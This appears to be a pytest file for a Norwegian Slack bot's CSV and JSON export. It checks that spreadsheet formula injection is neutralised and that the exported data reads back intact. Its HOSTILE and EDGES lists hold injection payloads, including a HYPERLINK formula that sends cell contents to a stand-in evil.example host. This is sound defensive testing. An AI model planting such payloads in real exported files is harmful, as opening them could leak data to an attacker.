"""The CSV export against OWASP's formula injection, read back with nothing but the csv module,
as the README tells an archivist to; the JSON export stays as the records are."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import unicodedata
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from bot import decisions, export, issues, meetings
from bot.context import Actor
from bot.decisions import DecisionInput
from bot.issues import IssueInput
from bot.meetings import MeetingInput
from bot.runtime import Runtime

KARI = Actor("UKARI", "nb")
COORD = Actor("UCOORD", "nb", is_coordinator=True, coordinators=("UCOORD",))
# list columns, and those whose items are objects (an entry's fields joined with |)
LISTS = {"departments", "tags", "notes", "acknowledgements", "agenda", "attendance"}
ENTRIES = {"notes", "acknowledgements", "agenda", "attendance"}
TRIGGERS = ("=", "+", "-", "@")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"klikk")',
    "+47 22 00 00 00",
    "-5 dager",
    "@SUM(A1:A9)",
    "'=allerede sitert",
    "＝SUM(A1)",  # full width
    'Linje 1\nLinje 2; med "sitat", komma | og rør',
    "a;b;c",
    "=1+1;=2+2",
]


def unsafe(value: str) -> str:
    """Undo the export's spreadsheet guard: one leading ' is always the export's own."""
    return value[1:] if value.startswith("'") else value


def split(cell: str, delimiter: str) -> list[str]:
    if cell == "":
        return []
    (items,) = csv.reader(io.StringIO(cell, newline=""), delimiter=delimiter)
    return items


def read_back(text: str) -> list[dict[str, Any]]:
    """The CSV taken apart as the README says: lists by ;, an entry's fields by |."""
    rows = []
    for raw in csv.DictReader(io.StringIO(text, newline="")):
        row: dict[str, Any] = {}
        for key, cell in raw.items():
            if key in ENTRIES:
                row[key] = [[unsafe(f) for f in split(i, "|")] for i in split(cell, ";")]
            elif key in LISTS:
                row[key] = [unsafe(i) for i in split(cell, ";")]
            else:
                row[key] = unsafe(cell)
        rows.append(row)
    return rows


def as_text(record: dict[str, Any]) -> dict[str, Any]:
    """What CSV can hold of a JSON record: text, with null as empty."""

    def leaf(value: Any) -> str:
        return "" if value is None else str(value)

    out: dict[str, Any] = {}
    for key, value in record.items():
        if key in ENTRIES:
            out[key] = [[leaf(v) for v in item.values()] for item in value]
        elif key in LISTS:
            out[key] = [leaf(v) for v in value]
        else:
            out[key] = leaf(value)
    return out


def raw_values(text: str) -> list[str]:
    """Every cell, list item and entry field as written, before anything is undone."""
    found: list[str] = []
    for raw in csv.DictReader(io.StringIO(text, newline="")):
        for key, cell in raw.items():
            found.append(cell)
            if key in LISTS:
                for item in split(cell, ";"):
                    found.append(item)
                    if key in ENTRIES:
                        found.extend(split(item, "|"))
    return found


def starts_a_formula(value: str) -> bool:
    head = unicodedata.normalize("NFKC", value.lstrip()[:1])
    return value.startswith(("\t", "\r")) or head.startswith(TRIGGERS)


def fill(rt: Runtime) -> None:
    """Records whose every free-text field, note and agenda item is hostile."""
    now = rt.clock.now()
    with rt.db.session() as session:
        for n, text in enumerate(HOSTILE):
            decisions.log(
                session, org=rt.org, actor=KARI,
                data=DecisionInput(
                    title=text.replace("\n", " "), details=text, departments=["RMA", "PU"],
                    decided_by=HOSTILE[(n + 1) % len(HOSTILE)].replace("\n", " "),
                    basis=HOSTILE[(n + 2) % len(HOSTILE)], tags=["retur", "dublin"],
                ),
                now=now,
            )  # fmt: skip
        issue = issues.register(
            session, org=rt.org, actor=KARI,
            data=IssueInput(title="-1 sak", description=HOSTILE[0], departments=["RMA", "OPA"],
                            due=date(2026, 12, 24)),
            now=now,
        )  # fmt: skip
        for text in HOSTILE:
            issues.add_note(session, actor=KARI, number=issue.number, text=text, now=now)
        issues.acknowledge(
            session, org=rt.org, actor=COORD, number=issue.number, code="RMA", now=now
        )
        start = datetime(2026, 12, 8, 10, 0, tzinfo=rt.org.timezone)
        done = meetings.schedule(
            session, org=rt.org, actor=COORD,
            data=MeetingInput(series="quarterly", start=start,
                              place=HOSTILE[6].replace("\n", " "), title=HOSTILE[3],
                              duration=timedelta(hours=2)),
            now=now,
        )  # fmt: skip
        for text in HOSTILE:
            meetings.add_agenda(
                session, org=rt.org, actor=KARI, number=done.meeting.number, text=text, now=now,
                department="OPA", issue=issue.number,
            )  # fmt: skip
        meetings.answer_attendance(
            session, org=rt.org, actor=COORD, number=done.meeting.number, code="OPA",
            answer="skip", now=now,
        )  # fmt: skip


def exported(rt: Runtime, kind: str, fmt: str) -> tuple[list[dict[str, Any]], str]:
    out = io.StringIO()
    with rt.db.session() as session:
        records = list(export.rows(session, kind, rt.org.timezone))
        writer = export.write_json if fmt == "json" else export.write_csv
        args = (iter(records), out) if fmt == "json" else (iter(records), out, kind)
        writer(*args)  # type: ignore[operator]
    return records, out.getvalue()


def test_csv_reads_back_whole_and_no_cell_starts_a_formula(runtime: Runtime) -> None:
    fill(runtime)
    for kind in export.KINDS:
        records, text = exported(runtime, kind, "csv")
        assert records
        assert read_back(text) == [as_text(r) for r in records], kind
        written = raw_values(text)
        assert not [v for v in written if starts_a_formula(v)], kind
    _, text = exported(runtime, "decisions", "csv")
    first = next(csv.DictReader(io.StringIO(text, newline="")))
    assert first["title"] == "'" + HOSTILE[0]
    # a ; in a value stays inside its cell, also for a spreadsheet that splits on ;
    assert ',"a;b;c",' in text


def test_json_export_is_the_records_as_they_are(runtime: Runtime) -> None:
    fill(runtime)
    for kind in export.KINDS:
        records, text = exported(runtime, kind, "json")
        assert json.loads(text) == records
    records, _ = exported(runtime, "decisions", "json")
    assert [r["details"] for r in records] == HOSTILE  # no ' added, nothing changed
    issue_records, _ = exported(runtime, "issues", "json")
    assert [n["text"] for n in issue_records[0]["notes"]] == HOSTILE


def _decision(**fields: Any) -> dict[str, Any]:
    record: dict[str, Any] = dict.fromkeys(export.COLUMNS["decisions"], "")
    record.update(departments=[], tags=[], meeting=None, issue=None)
    record.update(fields)
    return record


EDGES = [
    "", ";", ";;", '"', '""', "|", "a|b", "\n", "\r", "\r\n", "line\nbreak", "=x", "'y", "''",
    "\t=tab", "\r=cr", " =space", "\u00a0=nbsp", "\n=lf", "＝full", "﹢small", "\x00nul",
    'x";=1+1;"', "-", "@", "+",
]  # fmt: skip


def test_every_edge_value_reads_back_in_a_cell_a_list_and_an_entry() -> None:
    records = [
        _decision(id=f"D-{n}", title=value, details=value, tags=[value, value, "b"])
        for n, value in enumerate(EDGES)
    ]
    records.append(_decision(id="D-many", tags=EDGES))
    records.append(_decision(id="D-one-empty", tags=[""]))  # [""] and [] stay apart
    out = io.StringIO()
    assert export.write_csv(iter(records), out, "decisions") == len(records)
    assert read_back(out.getvalue()) == [as_text(r) for r in records]
    assert not [v for v in raw_values(out.getvalue()) if starts_a_formula(v)]
    notes = [{"author": value, "text": value, "created_at": None} for value in EDGES]
    issue: dict[str, Any] = dict.fromkeys(export.COLUMNS["issues"], "")
    issue.update(departments=EDGES, notes=notes, acknowledgements=[])
    out = io.StringIO()
    export.write_csv(iter([issue]), out, "issues")
    assert read_back(out.getvalue()) == [as_text(issue)]


@settings(max_examples=300, deadline=None)
@given(
    title=st.text(max_size=40),
    tags=st.lists(st.text(max_size=12), max_size=5),
    notes=st.lists(st.tuples(st.text(max_size=8), st.text(max_size=12)), max_size=4),
)
def test_any_text_reads_back(title: str, tags: list[str], notes: list[tuple[str, str]]) -> None:
    record = _decision(id="D-1", title=title, details=title, tags=tags)
    out = io.StringIO()
    export.write_csv(iter([record]), out, "decisions")
    assert read_back(out.getvalue()) == [as_text(record)]
    issue: dict[str, Any] = dict.fromkeys(export.COLUMNS["issues"], title)
    issue.update(
        departments=tags,
        notes=[{"author": a, "text": b, "created_at": None} for a, b in notes],
        acknowledgements=[{"department": a, "by": b, "at": a} for a, b in notes],
    )
    out = io.StringIO()
    export.write_csv(iter([issue]), out, "issues")
    assert read_back(out.getvalue()) == [as_text(issue)]
    assert not [v for v in raw_values(out.getvalue()) if starts_a_formula(v)]


def test_a_screened_record_carries_its_basis_and_its_public_title(runtime: Runtime) -> None:
    now = runtime.clock.now()
    with runtime.db.session() as session:
        for title, basis in (("Retur av **Per Hansen**", "Offl. § 13"), ("Åpen sak", None)):
            data = DecisionInput(title=title, screening=basis)
            decisions.log(session, org=runtime.org, actor=KARI, data=data, now=now)
        data = IssueInput(title="Sak om Ola", departments=["RMA"], screening="Offl. § 14")
        issues.register(session, org=runtime.org, actor=KARI, data=data, now=now)
    records, text = exported(runtime, "decisions", "json")
    assert [(r["title"], r["screening"], r["public_title"]) for r in records] == [
        ("Retur av Per Hansen", "Offl. § 13", "Retur av *****"),
        ("Åpen sak", None, "Åpen sak"),
    ]
    _, text = exported(runtime, "decisions", "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["screening"], r["public_title"]) for r in rows] == [
        ("Offl. § 13", "Retur av *****"),
        ("", "Åpen sak"),
    ]
    (issue,), _ = exported(runtime, "issues", "json")
    assert (issue["screening"], issue["public_title"]) == ("Offl. § 14", "*****")


ROOT = Path(__file__).resolve().parents[2]


def test_returbot_export_csv_from_the_command_line(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "RETURBOT_"))}
    env.update(DATABASE_URL=f"sqlite:///{tmp_path / 'rb.db'}", PYTHONPATH=str(ROOT))

    def returbot(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "returbot", *args], cwd=tmp_path, env=env, capture_output=True,
            text=True, timeout=60, check=False,
        )  # fmt: skip

    typed = returbot("console", "-c", "/decision =1+1;@SUM(A1) dept:RMA tags:retur")
    assert typed.returncode == 0, typed.stderr
    done = returbot("export", "decisions", "--format", "csv")
    assert done.returncode == 0, done.stderr
    (row,) = csv.DictReader(io.StringIO(done.stdout, newline=""))
    assert row["title"] == "'=1+1;@SUM(A1)"
    assert read_back(done.stdout)[0]["title"] == "=1+1;@SUM(A1)"
    as_json = json.loads(returbot("export", "decisions").stdout)
    assert as_json[0]["title"] == "=1+1;@SUM(A1)"
